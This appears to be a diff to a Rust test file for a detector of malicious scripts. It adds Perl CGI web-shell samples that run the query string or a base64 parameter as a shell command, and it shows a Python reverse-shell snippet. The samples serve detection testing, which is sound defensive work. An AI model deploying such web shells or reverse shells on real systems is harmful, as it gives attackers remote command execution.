@@ -117,6 +117,17 @@ fn what_the_held_out_scripts_taught_is_found() {
     let decoded = "#!/usr/bin/perl\nuse MIME::Base64;\nread(STDIN, $in, $ENV{'CONTENT_LENGTH'});\n%in = parse($in);\n\
                    if ($in{\"cmd\"}) { system(decode_base64($in{\"cmd\"})); }\n";
     assert_eq!(whys(decoded), [Why::ShellFromInput]);
+    // The whole query string run as the command (fresh59's `perlcmd.cgi` and `cmd.cgi`), also
+    // through Perl's `$_`.
+    let query =
+        "#!/usr/bin/perl -w\nmy $req = $ENV{QUERY_STRING};\n$req =~ s/%20/ /g;\nmy @out = `$req`;\nprint @out;\n";
+    assert_eq!(whys(query), [Why::ShellFromInput]);
+    let topic = "#!/usr/bin/perl\n$_ = $ENV{QUERY_STRING};\ns/%20/ /ig;\n$execthis = $_;\nsystem($execthis);\n";
+    assert_eq!(whys(topic), [Why::ShellFromInput]);
+    // The query string parsed, and a fixed command run with a variable of another name: quiet.
+    let counter = "#!/usr/bin/perl\nmy $q = $ENV{QUERY_STRING};\nmy $file = '/home/demo/count.txt';\n\
+                   system($convert, $file);\nprint \"Content-type: text/plain\\n\\n$q\";\n";
+    assert_eq!(whys(counter), []);
     // A shell put onto a socket's descriptor by the shell's own redirections.
     let py = "import socket, os\ns = socket.socket()\ns.connect((h, p))\nf = s.fileno()\n\
               os.system('/bin/sh -i <&' + str(f) + ' >&' + str(f) + ' 2>&' + str(f))\n";
